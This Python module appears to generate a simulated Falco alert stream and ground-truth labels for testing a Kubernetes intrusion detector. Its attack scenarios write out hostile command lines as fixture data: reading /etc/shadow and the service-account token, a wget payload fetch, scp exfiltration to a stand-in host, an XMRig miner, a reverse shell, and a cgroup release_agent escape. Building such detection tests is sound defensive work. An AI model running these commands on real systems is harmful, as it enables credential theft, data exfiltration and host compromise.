        index = self.templates.add(host, rule, fields)
        self.events.append((offset, index))
        return index


def _rollout_audits(f: _Fixed) -> None:
    """Argo CD is not in the k8saudit rules' allowed users: its every call is flagged."""
    user = "system:serviceaccount:argocd:argocd-application-controller"
    for at, w in f.c.rollouts:
        uri = f"/apis/apps/v1/namespaces/{w.namespace}/deployments/{w.name}"
        for verb, delay in (("get", 0), ("patch", 180_000_000)):
            fields = {
                "ka.user.name": user,
                "ka.target.name": w.name,
                "ka.target.resource": "deployments",
                "ka.verb": verb,
                "ka.uri": uri,
                "ka.response.code": "200",
            }
            offset = at - NS + delay + f.c.rng.randrange(50_000_000)
            f.add(offset, f.audit_host, "Disallowed K8s User", fields)


def _dev_sessions(f: _Fixed) -> None:
    """Developers exec into the staging preview: an audit alert, then the terminal shell."""
    c = f.c
    w = _BY_NAME["web-preview"]
    for _ in range(max(1, round(3 * c.span_ns / (3600 * NS)))):
        at = int(c.rng.uniform(0.02, 0.97) * c.span_ns)
        pod = c.pod_at(w.name, at)
        user = c.rng.choice(("alice@example.com", "bob@example.com"))
        f.add(at, f.audit_host, "Attach/Exec Pod", _exec_audit(user, pod.name, w.namespace, "sh"))
        shell = _proc("sh", "/usr/bin/dash", "sh", "runc", user=w.user, tty=34816)
        later = at + c.rng.randrange(200_000_000, 600_000_000)
        f.add(later, pod.host, "Terminal shell in container", pod.fields() | shell)


def _metrics(f: _Fixed) -> None:
    """Each node's Falco writes a metrics snapshot every 15 minutes (metrics.interval 15m)."""
    c = f.c
    interval = 15 * 60 * NS
    for name, ip, _ in _NODES:
        booted = c.start_ns - c.rng.randrange(3, 30) * 86400 * NS
        started = c.start_ns - c.rng.randrange(3600, 5 * 86400) * NS - c.rng.randrange(NS)
        rate = c.rng.uniform(1500, 4000)
        at = started + ((c.start_ns - started) // interval + 1) * interval
        total = int((at - interval - started) / NS * rate)
        while at < c.start_ns + c.span_ns:
            previous, total = total, total + int(rate * 900 * c.rng.uniform(0.8, 1.2))
            fields = {
                "evt.hostname": name,
                "evt.source": "syscall",
                "evt.time": at,
                "falco.duration_sec": (at - started) // NS,
                "falco.evts_rate_sec": round((total - previous) / 900, 1),
                "falco.host_boot_ts": booted,
                "falco.host_netinfo.interfaces.ens5.protocols.ipv4.addresses": ip,
                "falco.host_num_cpus": 4,
                "falco.kernel_release": "6.8.0-1021-aws",
                "falco.num_evts": total,
                "falco.num_evts_prev": previous,
                "falco.outputs_queue_num_drops": 0,
                "falco.reload_ts": started,
                "falco.sha256_config_file.falco_yaml": _digest("falco.yaml")[7:],
                "falco.sha256_rules_file.falco_rules_yaml": _digest("falco_rules.yaml")[7:],
                "falco.start_ts": started,
                "falco.version": "0.41.3",
                "scap.engine_name": "modern_bpf",
                "scap.n_drops_perc": 0.0,
            }
            # Falco writes internal alerts without tags.
            line = _dumps({
                "hostname": name,
                "output": "Falco metrics snapshot",
                "output_fields": dict(sorted(fields.items())),
                "priority": Priority.INFORMATIONAL.label,
                "rule": "Falco internal: metrics snapshot",
                "source": "internal",
                "time": _rfc3339(at),
            })  # fmt: skip
            f.events.append((at - c.start_ns, f.templates.add_line(line)))
            at += interval


# --- The attacks -------------------------------------------------------------------------------

# thread.cap_effective of a privileged container: every capability of a 6.x kernel.
_CAPS_ALL: Final = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
    "CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST "
    "CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO "
    "CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE "
    "CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE "
    "CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM "
    "CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE"
)

Step = tuple[float, str, dict[str, Any]]  # (seconds after the start, rule, fields beyond pod's)


def _web_rce(rng: random.Random, pod: _Pod, t0: int) -> list[Step]:
    exe, parent = "/usr/sbin/apache2", "apache2 -DFOREGROUND"
    bearer = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"
    api = f"curl -sk -H Authorization: Bearer {bearer} https://10.96.0.1/api/v1/namespaces/shop/secrets"
    scp = "scp -o StrictHostKeyChecking=no /tmp/.d.tgz loot@198.51.100.23:/srv/drop/"
    shell, cat = "sh -c id", "sh -c cat /etc/shadow"
    return [
        (0.0, "Run shell untrusted",
         _proc("sh", "/usr/bin/dash", shell, "apache2", "apache2", "containerd-shim", pexe=exe,
               pcmdline=parent)),
        (2.4, "Run shell untrusted",
         _proc("sh", "/usr/bin/dash", cat, "apache2", "apache2", "containerd-shim", pexe=exe,
               pcmdline=parent)),
        (2.41, "Read sensitive file untrusted",
         _proc("cat", "/usr/bin/cat", "cat /etc/shadow", "sh", "apache2", "apache2",
               "containerd-shim", evt_type="openat") | {"fd.name": "/etc/shadow"}),
        (21.7, "Contact K8S API Server From Container",
         _proc("curl", "/usr/bin/curl", api, "sh", "apache2")
         | _connect(pod.ip, _port(rng), _API_SERVER, 443)),
        (47.2, "Launch Ingress Remote File Copy Tools in Container",
         _proc("wget", "/usr/bin/wget", "wget -q http://203.0.113.50/k.sh -O /tmp/.k.sh", "sh",
               "apache2")),
        (73.9, "Launch Remote File Copy Tools in Container",
         _proc("scp", "/usr/bin/scp", scp, "sh", "apache2")),
    ]  # fmt: skip


def _cron_miner(rng: random.Random, pod: _Pod, t0: int) -> list[Step]:
    drop = "/tmp/.cache/kworker"
    wget = f"wget -q http://203.0.113.77/xmrig -O {drop}"
    steps: list[Step] = [
        (4.2, "Launch Ingress Remote File Copy Tools in Container",
         _proc("wget", "/usr/bin/wget", wget, "sh", "containerd-shim")),
    ]  # fmt: skip
    wallet = "4" + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
                           for _ in range(94))  # fmt: skip
    cmd = f"kworker -o stratum+tcp://pool.supportxmr.example:3333 -u {wallet} -p x --donate-level 1"
    written = t0 + int(5.3 * NS)  # when wget finished writing the binary
    for at in (9.8, 40.3, 70.6):  # the job script restarts the miner when it is killed
        miner = _proc("kworker", drop, cmd, "sh", "containerd-shim",
                      flags="EXE_WRITABLE|EXE_UPPER_LAYER")  # fmt: skip
        miner |= {
            "proc.exe": drop,
            "proc.sname": "sh",
            "proc.cwd": "/app/",
            "proc.exe_ino.ctime": written,
            "proc.exe_ino.mtime": written,
            "proc.exe_ino.ctime_duration_proc_start": t0 + int(at * NS) - written,
        }
        # One execve, two rules: both alerts carry the same time.
        steps.append((at, "Drop and execute new binary in container", miner))
        steps.append((at, "Detect crypto miners using the Stratum protocol", miner))
    return steps


def _container_escape(rng: random.Random, pod: _Pod, t0: int) -> list[Step]:
    shell = _proc("bash", "/usr/bin/bash", "bash -i", "node-agent", "containerd-shim")
    shell |= _connect(pod.ip, _port(rng), "198.51.100.7", 4444, evt_type="dup2")
    agent = ("node-agent", "containerd-shim")
    release = "sh -c echo /mnt/host/tmp/x.sh > /tmp/cgrp/release_agent"
    return [
        (0.0, "Redirect STDOUT/STDIN to Network Connection in Container", shell),
        (34.5, "Mount Launched in Privileged Container",
         _proc("mount", "/usr/bin/mount", "mount -t cgroup -o rdma cgroup /tmp/cgrp", "bash",
               *agent)),
        (36.1, "Mount Launched in Privileged Container",
         _proc("mount", "/usr/bin/mount", "mount /dev/nvme0n1p1 /mnt/host", "bash", *agent)),
        (51.8, "Detect release_agent File Container Escapes",
         _proc("sh", "/usr/bin/dash", release, "bash", *agent, evt_type="openat")
         | {"fd.name": "/tmp/cgrp/release_agent", "thread.cap_effective": _CAPS_ALL}),
    ]  # fmt: skip


def _exec_exfiltration(rng: random.Random, pod: _Pod, t0: int) -> list[Step]:
    user, who = "contractor-7@example.com", pod.workload.user
    steps: list[Step] = [
        (0.0, "Attach/Exec Pod", _exec_audit(user, pod.name, "data", "bash")),
        (0.38, "Terminal shell in container",
         _proc("bash", "/usr/bin/bash", "bash", "runc", user=who, tty=34816)),
        (31.2, "Search Private Keys or Passwords",
         _proc("find", "/usr/bin/find", "find / -name id_rsa", "bash", user=who, tty=34816)),
        (96.0, "Attach/Exec Pod", _exec_audit(user, pod.name, "data", "tar")),
    ]  # fmt: skip
    backups = "/var/lib/postgresql/backups"
    tar = _proc("tar", "/usr/bin/tar", f"tar cf - {backups}", "runc", user=who, evt_type="openat")
    names = ("customers-2025-12-31.sql.gz", "orders-2025-12-31.sql.gz", "pgpass.conf")
    for i, name in enumerate(names):  # kubectl cp: tar reads each file
        fields = tar | {"fd.name": f"{backups}/{name}"}
        steps.append(
            (96.35 + 0.8 * i, "Exfiltrating Artifacts via Kubernetes Control Plane", fields)
        )
    return steps


@dataclass(frozen=True, slots=True)
class _Scenario:
    id: str
    title: str
    summary: str
    workload: str
    at: float  # where in the window it starts, as a fraction
    build: Callable[[random.Random, _Pod, int], list[Step]]  # (rng, pod, start time)


_SCENARIOS: Final = (
    _Scenario("web-rce", "Remote code execution in a privileged web app",
              "A PHP flaw in shop/storefront (privileged, runs as root) gives a shell: it reads "
              "/etc/shadow, calls the API server with the pod's token, downloads a tool and "
              "copies data out.", "storefront", 0.18, _web_rce),
    _Scenario("cron-miner", "Crypto-miner in a CronJob pod",
              "A poisoned :latest image of data/metrics-rollup downloads an XMRig miner to /tmp "
              "and runs it; the job script restarts it twice.", "metrics-rollup", 0.42,
              _cron_miner),
    _Scenario("container-escape", "Container escape attempt from a privileged DaemonSet",
              "A reverse shell in monitoring/node-agent (privileged, hostPID, hostPath /) mounts "
              "a cgroup and the host disk and writes a cgroup release_agent.", "node-agent",
              0.63, _container_escape),
    _Scenario("exec-exfiltration", "kubectl exec into the database with stolen credentials",
              "A contractor's credentials exec a shell in data/postgres-0, hunt for private "
              "keys, then kubectl cp the backups out.", "postgres", 0.82, _exec_exfiltration),
)  # fmt: skip


def _play(f: _Fixed, scenario: _Scenario) -> ScenarioLabel:
    c = f.c
    w = _BY_NAME[scenario.workload]
    probe = _Pod(w, w.name, 0, "10.244.0.1", "0" * 12, 0, 0)
    last = scenario.build(random.Random(0), probe, 0)[-1][0]  # noqa: S311  its length only
    latest = c.span_ns - int((last + 6) * NS)
    wanted = min(int(scenario.at * c.span_ns), latest)
    if w.kind == "CronJob":
        runs = [p for p in c.slots[w.name][0] if 0 <= p.start <= latest]
        pod = next((p for p in runs if p.start >= wanted), runs[-1])
        begin = pod.start + c.rng.randrange(1, 3) * NS
        pod.end = max(pod.end, begin + int((last + 30) * NS))  # the miner keeps the job running
    else:
        begin = min(wanted + c.rng.randrange(30 * NS), latest)
        slot = 0 if w.kind == "StatefulSet" else c.rng.randrange(len(c.slots[w.name]))
        pod = c.pod_at(w.name, begin, slot)
    jitter: dict[float, int] = {}  # steps at the same second are one event: one time
    steps: list[tuple[int, int, ScenarioStep]] = []
    for seconds, name, extra in scenario.build(c.rng, pod, c.start_ns + begin):
        rule = _RULES[name]
        offset = begin + int(seconds * NS) + jitter.setdefault(seconds, c.rng.randrange(100_000))
        if rule.source == "k8s_audit":
            index = f.add(offset, f.audit_host, name, extra)
        else:
            index = f.add(offset, pod.host, name, pod.fields() | extra)
        step = ScenarioStep(c.start_ns + offset, name, Priority.parse(rule.priority), rule.source)
        steps.append((offset, index, step))
    ordered = tuple(step for _, _, step in sorted(steps, key=lambda s: s[:2]))
    rules = tuple(dict.fromkeys(s.rule for s in ordered))
    tactics: dict[str, None] = {}
    techniques: set[str] = set()
    for name in rules:
        found, techs = mitre_of(_RULES[name].tags)
        tactics.update(dict.fromkeys(found))
        techniques.update(techs)
    return ScenarioLabel(
        id=scenario.id,
        title=scenario.title,
        summary=scenario.summary,
        workload=w,
        pod=pod.name,
        node=pod.host,
        start_ns=ordered[0].time_ns,
        end_ns=ordered[-1].time_ns,
        rules=rules,
        tactics=tuple(tactics),
        techniques=tuple(sorted(techniques)),
        steps=ordered,
    )


# --- Manifests of the simulated cluster --------------------------------------------------------


def _manifests() -> dict[str, str]:
    files: dict[str, list[dict[str, Any]]] = {}
    for w in WORKLOADS:
        docs = files.setdefault(w.namespace, [_object("v1", "Namespace", w.namespace, None, {})])
        if w.hardened:
            docs.append(_network_policy(w))
            docs.append(_object("v1", "ServiceAccount", w.name, w.namespace, {}))
            docs[-1]["automountServiceAccountToken"] = False
        docs.append(_workload(w))
    out: dict[str, str] = {}
    for namespace, docs in files.items():
        notes = ", ".join(
            f"{w.kind}/{w.name} ({'hardened' if w.hardened else 'misconfigured'})"
            for w in WORKLOADS
            if w.namespace == namespace
        )
        text = yaml.safe_dump_all(docs, sort_keys=False, width=100)
        out[f"{namespace}.yaml"] = f"# Simulated cluster {CLUSTER!r}: {notes}.\n{text}"
    return out


def _object(
    api: str, kind: str, name: str, namespace: str | None, spec: dict[str, Any]
) -> dict[str, Any]:
    meta = {"name": name} if namespace is None else {"name": name, "namespace": namespace}
    doc: dict[str, Any] = {"apiVersion": api, "kind": kind, "metadata": meta}
    if spec:
        doc["spec"] = spec
    return doc


def _network_policy(w: SimWorkload) -> dict[str, Any]:
    def peers(namespace: str) -> list[dict[str, Any]]:
        selector = {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
        return [{"namespaceSelector": selector}]

    spec = {
        "podSelector": {"matchLabels": {"app": w.name}},
        "policyTypes": ["Ingress", "Egress"],
        "ingress": [{"from": peers("ingress")}],
        "egress": [{"to": peers("data")}],
    }
    return _object("networking.k8s.io/v1", "NetworkPolicy", w.name, w.namespace, spec)


def _container(w: SimWorkload) -> dict[str, Any]:
    spec: dict[str, Any] = {"name": w.container, "image": w.image}
    if not w.hardened:
        spec["securityContext"] = {"runAsUser": 0}
        if w.name in ("storefront", "node-agent"):
            spec["securityContext"]["privileged"] = True
        if w.name == "node-agent":
            spec["volumeMounts"] = [{"name": "host-root", "mountPath": "/host"}]
        elif w.name == "fluent-bit":
            spec["volumeMounts"] = [{"name": "varlog", "mountPath": "/var/log", "readOnly": True}]
        return spec
    if w.kind == "StatefulSet":
        probe: dict[str, Any] = {"exec": {"command": ["pg_isready", "-U", "postgres"]}}
    else:
        probe = {"httpGet": {"path": "/healthz", "port": 8080}}
    return spec | {
        "imagePullPolicy": "Always",
        "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
                            "capabilities": {"drop": ["ALL"]}},
        "resources": {"requests": {"cpu": "100m", "memory": "128Mi"},
                      "limits": {"cpu": "1", "memory": "512Mi"}},
        "livenessProbe": probe,
        "readinessProbe": copy.deepcopy(probe),  # a copy, so the YAML has no anchors
        "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"}],
    }  # fmt: skip


def _pod_spec(w: SimWorkload) -> dict[str, Any]:
    spec: dict[str, Any] = {}
    if w.hardened:
        uid = w.user[1]
        spec["serviceAccountName"] = w.name
        spec["automountServiceAccountToken"] = False
        spec["securityContext"] = {
            "runAsNonRoot": True,
            "runAsUser": uid,
            "runAsGroup": uid,
            "fsGroup": uid,
            "seccompProfile": {"type": "RuntimeDefault"},
        }
    if w.kind == "CronJob":
        spec["restartPolicy"] = "OnFailure"
    if w.name == "node-agent":
        spec |= {"hostPID": True, "hostNetwork": True}
    spec["containers"] = [_container(w)]
    if w.hardened:
        spec["volumes"] = [{"name": "tmp", "emptyDir": {}}]
    elif w.name == "node-agent":
        spec["volumes"] = [{"name": "host-root", "hostPath": {"path": "/"}}]
    elif w.name == "fluent-bit":
        spec["volumes"] = [{"name": "varlog", "hostPath": {"path": "/var/log"}}]
    return spec


def _workload(w: SimWorkload) -> dict[str, Any]:
    template = {"metadata": {"labels": {"app": w.name}}, "spec": _pod_spec(w)}
    spec: dict[str, Any]
    if w.kind == "CronJob":
        job = {"spec": {"template": template}}
        spec = {"schedule": w.schedule, "concurrencyPolicy": "Forbid", "jobTemplate": job}
        return _object("batch/v1", w.kind, w.name, w.namespace, spec)
    spec = {"selector": {"matchLabels": {"app": w.name}}, "template": template}
    if w.kind != "DaemonSet":
        spec = {"replicas": w.replicas, **spec}
    if w.kind == "StatefulSet":
        spec["serviceName"] = w.name
    return _object("apps/v1", w.kind, w.name, w.namespace, spec)


# --- Entry points ------------------------------------------------------------------------------


def simulate(
    seed: int = 1,
    hours: float = 1.0,
    start_ns: int = DEFAULT_START_NS,
    events_per_s: float = 1.0,
) -> Simulation:
    """Simulate ``hours`` of Falco alerts from the cluster, starting at ``start_ns``.

    ``events_per_s`` is the mean background rate (benchmarks raise it); fixed events and the
    four attacks come on top. Same arguments, same bytes.
    """
    if not hours >= MIN_HOURS:
        raise ValueError(f"hours must be at least {MIN_HOURS}: the attacks need the time")
    if not events_per_s >= 0:
        raise ValueError("events_per_s must be zero or more")
    rng = random.Random(seed)  # noqa: S311  a reproducible simulation, not cryptography
    span = int(hours * 3600 * NS)
    cluster = _build_cluster(rng, start_ns, span)
    templates = _Templates()
    audit_host = f"falco-k8saudit-{cluster.template_hash()}-{cluster.rand_str(5)}"
    fixed = _Fixed(cluster, templates, audit_host)
    labels = tuple(_play(fixed, scenario) for scenario in _SCENARIOS)
    _rollout_audits(fixed)
    _dev_sessions(fixed)
    _metrics(fixed)
    profiles = _profiles(cluster, templates)
    fixed.events.sort()
    return Simulation(
        seed=seed,
        start_ns=start_ns,
        end_ns=start_ns + span,
        events_per_s=events_per_s,
        cluster=CLUSTER,
        nodes=tuple(name for name, _, _ in _NODES),
        workloads=WORKLOADS,
        labels=labels,
        manifests=_manifests(),
        _plan=_Plan(span, events_per_s, templates, fixed.events, profiles),
    )


def write_simulation(sim: Simulation, out_dir: Path) -> dict[str, int]:
    """Write falco.jsonl, labels.json, manifests/*.yaml and README.md; return the counts."""
    out_dir.mkdir(parents=True, exist_ok=True)
    alerts = 0
    with (out_dir / "falco.jsonl").open("wb") as out:  # bytes: much faster than a text stream
        for chunk in sim.chunks():
            alerts += len(chunk)
            chunk.append("")  # the last line's newline
            out.write("\n".join(chunk).encode())
    labels = json.dumps(sim.labels_json(), indent=2)
    (out_dir / "labels.json").write_text(labels + "\n", encoding="utf-8")
    manifests = out_dir / "manifests"
    manifests.mkdir(exist_ok=True)
    for name, text in sim.manifests.items():
        (manifests / name).write_text(text, encoding="utf-8")
    (out_dir / "README.md").write_text(_readme(sim, alerts), encoding="utf-8")
    return {
        "alerts": alerts,
        "scenarios": len(sim.labels),
        "scenario_alerts": sum(len(label.steps) for label in sim.labels),
        "fixed_alerts": len(sim._plan.fixed),
        "manifests": len(sim.manifests),
    }


def _readme(sim: Simulation, alerts: int) -> str:
    rows = "\n".join(
        f"| {label.id} | {label.workload.key} | `{label.pod}` | {_rfc3339(label.start_ns)} | "
        f"{', '.join(label.tactics)} |"
        for label in sim.labels
    )
    return f"""# Simulated Falco stream (seed {sim.seed})

Written by `kubesentinel simulate`: {alerts} Falco alerts from the simulated cluster
`{sim.cluster}` between {_rfc3339(sim.start_ns)} and {_rfc3339(sim.end_ns)}, in Falco's JSON
output layout (`json_output: true`, one alert per line). The same seed gives the same bytes.

- `falco.jsonl`: the alerts in time order: background noise, k8s_audit alerts, Falco metrics
  snapshots and the attacks below.
- `labels.json`: the ground truth: each attack's workload, pod, time window, rules and MITRE
  tactics; and which workloads are hardened.
- `manifests/`: the cluster's workloads, some hardened, some misconfigured.

## Replay

```sh
kubesentinel scan --path manifests/ --format json > posture.json  # exit 1: it has findings
kubesentinel monitor --source falco.jsonl --until-eof --posture posture.json
kubesentinel incidents list
```

The same stream through a pipe (`--source -`), or to the HTTP receiver one alert per POST, as
Falco's `http_output` sends them:

```sh
kubesentinel monitor --source - --until-eof < falco.jsonl
while IFS= read -r alert; do
  curl -s -H 'Content-Type: application/json' -d "$alert" http://127.0.0.1:2801/
done < falco.jsonl
```

## Attacks in the stream

| scenario | workload | pod | starts | tactics |
|---|---|---|---|---|
{rows}

Each should become one incident on its workload, its severity raised by the walk through
several tactics and by the workload's misconfigurations; the noise should be counted as
repeats rather than raised as incidents.
"""
